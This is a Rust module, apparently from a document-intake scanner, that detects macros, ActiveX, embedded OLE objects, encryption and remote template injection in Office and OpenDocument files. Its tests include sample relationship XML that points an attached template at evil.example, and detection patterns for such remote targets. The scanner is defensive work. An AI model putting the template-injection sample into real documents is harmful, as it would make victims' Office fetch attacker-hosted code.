//! What makes an Office file active: VBA projects and macro-enabled
//! content types in Office Open XML, Basic and script folders in
//! OpenDocument, ActiveX controls and embedded OLE objects, templates and
//! objects fetched from elsewhere when the document opens, and VBA
//! storages in the older OLE compound files. Judged per archive member.

use intake_core::decide::Finding;

use super::sniff::{contains, utf16le};

fn active(detail: &str) -> Finding {
    Finding::ActiveContent {
        detail: detail.to_owned(),
    }
}

/// Findings from one member of a ZIP-based document: its name and, for
/// the small XML parts that declare what the package holds, its content.
pub fn member_findings(name: &str, bytes: &[u8]) -> Vec<Finding> {
    // Some writers separate folders with backslashes.
    let lower = name.to_ascii_lowercase().replace('\\', "/");
    let file = lower.rsplit('/').next().unwrap_or_default();
    let mut out = Vec::new();
    if file == "vbaproject.bin" || file == "vbadata.xml" {
        out.push(active("macros (VBA project)"));
    }
    if lower.starts_with("basic/") || lower.starts_with("scripts/") {
        out.push(active("macros (OpenDocument Basic or scripts)"));
    }
    if lower.contains("activex/") {
        out.push(active("ActiveX controls"));
    }
    if lower.contains("embeddings/oleobject")
        || file.ends_with(".bin") && lower.contains("embeddings/")
    {
        out.push(active("an embedded OLE object"));
    }
    if file == "[content_types].xml" {
        let text = bytes.to_ascii_lowercase();
        if contains(&text, b"macroenabled") || contains(&text, b"vbaproject") {
            out.push(active("a macro-enabled document"));
        }
    }
    if file.ends_with(".rels") && remote_part(bytes) {
        out.push(active(
            "a template or object loaded from elsewhere when opened",
        ));
    }
    if file == "manifest.xml" && lower.starts_with("meta-inf/") {
        let text = bytes.to_ascii_lowercase();
        if contains(&text, b"manifest:encryption-data") {
            out.push(Finding::PasswordProtected {
                what: "OpenDocument".to_owned(),
            });
        }
    }
    out
}

/// A relationship that makes Word fetch a template, a frame, a
/// subdocument or an OLE object from a URL (template injection).
/// Hyperlinks are external too, and harmless until clicked.
fn remote_part(rels: &[u8]) -> bool {
    // Spaces and quote styles vary; compare without them.
    let text: String = String::from_utf8_lossy(rels)
        .to_ascii_lowercase()
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '\'' && *c != '"')
        .collect();
    text.split("<").any(|element| {
        let remote = ["target=http", "target=\\\\", "target=//", "target=file://", "target=ftp"]
            .iter()
            .any(|t| element.contains(t))
            // file:/// is this computer: the template Word made it from.
            && !element.contains("target=file:///");
        element.contains("targetmode=external")
            && remote
            && ["/attachedtemplate", "/oleobject", "/subdocument", "/frame"]
                .iter()
                .any(|t| element.contains(t))
    })
}

/// Whether an OLE directory names `name`: UTF-16LE, and compared without
/// regard to case, as Office looks names up (`_vba_project` is a VBA
/// project too). A stray match refuses a file; it never lets one through.
fn names(bytes: &[u8], name: &str) -> bool {
    let needle = utf16le(&name.to_ascii_lowercase());
    let first = needle[0];
    bytes.windows(needle.len()).any(|window| {
        window[0].to_ascii_lowercase() == first
            && window
                .iter()
                .zip(&needle)
                .all(|(a, b)| a.to_ascii_lowercase() == *b)
    })
}

/// Findings inside an OLE compound file (`.doc`, `.xls`, encrypted OOXML):
/// storage names are UTF-16LE in its directory.
pub fn ole_findings(bytes: &[u8]) -> Vec<Finding> {
    let mut out = Vec::new();
    if names(bytes, "EncryptedPackage") {
        out.push(Finding::PasswordProtected {
            what: "Office document".to_owned(),
        });
    }
    // Not "Macros": Word keeps a document's own text in UTF-16LE too.
    if names(bytes, "_VBA_PROJECT") {
        out.push(active("macros (VBA project)"));
    }
    if names(bytes, "\u{1}Ole10Native") {
        out.push(active("an embedded OLE package"));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ole_names_are_found_in_any_case() {
        for name in ["_VBA_PROJECT", "_vba_project", "_Vba_Project"] {
            let mut file = vec![0xD0, 0xCF, 0x11, 0xE0];
            file.extend(utf16le(name));
            assert_eq!(ole_findings(&file).len(), 1, "{name}");
        }
        assert!(ole_findings(&utf16le("an ordinary document")).is_empty());
    }

    #[test]
    fn macro_projects_and_macro_enabled_types_are_active() {
        assert!(!member_findings("word/vbaProject.bin", b"").is_empty());
        assert!(!member_findings("xl/vbaProject.bin", b"").is_empty());
        let types = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
        assert!(!member_findings("[Content_Types].xml", types).is_empty());
        assert!(!member_findings("Basic/Standard/Module1.xml", b"").is_empty());
        assert!(!member_findings("word/activeX/activeX1.xml", b"").is_empty());
        assert!(!member_findings("word/embeddings/oleObject1.bin", b"").is_empty());
    }

    #[test]
    fn plain_document_parts_are_fine() {
        let types = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
        assert_eq!(member_findings("[Content_Types].xml", types), vec![]);
        assert_eq!(
            member_findings("word/document.xml", b"<w:document/>"),
            vec![]
        );
        assert_eq!(member_findings("word/media/image1.png", b""), vec![]);
        assert_eq!(
            member_findings("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b""),
            vec![]
        );
    }

    #[test]
    fn remote_templates_are_active_but_hyperlinks_are_not() {
        let template = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
        assert!(!member_findings("word/_rels/settings.xml.rels", template).is_empty());
        let quoted = br#"<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode = 'External'/></Relationships>"#;
        assert!(!member_findings("word/_rels/settings.xml.rels", quoted).is_empty());
        let local = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\hr\Templates\contract.dotx" TargetMode="External"/></Relationships>"#;
        assert_eq!(
            member_findings("word/_rels/settings.xml.rels", local),
            vec![]
        );
        let link = br#"<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://migri.fi" TargetMode="External"/></Relationships>"#;
        assert_eq!(
            member_findings("word/_rels/document.xml.rels", link),
            vec![]
        );
    }

    #[test]
    fn ole_files_with_macros_or_encryption_are_found() {
        let mut doc = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        doc.extend(vec![0; 600]);
        assert_eq!(ole_findings(&doc), vec![]);
        let mut macros = doc.clone();
        macros.extend(utf16le("_VBA_PROJECT_CUR"));
        assert!(matches!(
            ole_findings(&macros).as_slice(),
            [Finding::ActiveContent { .. }]
        ));
        let mut encrypted = doc;
        encrypted.extend(utf16le("EncryptedPackage"));
        assert!(matches!(
            ole_findings(&encrypted).as_slice(),
            [Finding::PasswordProtected { .. }]
        ));
    }
}
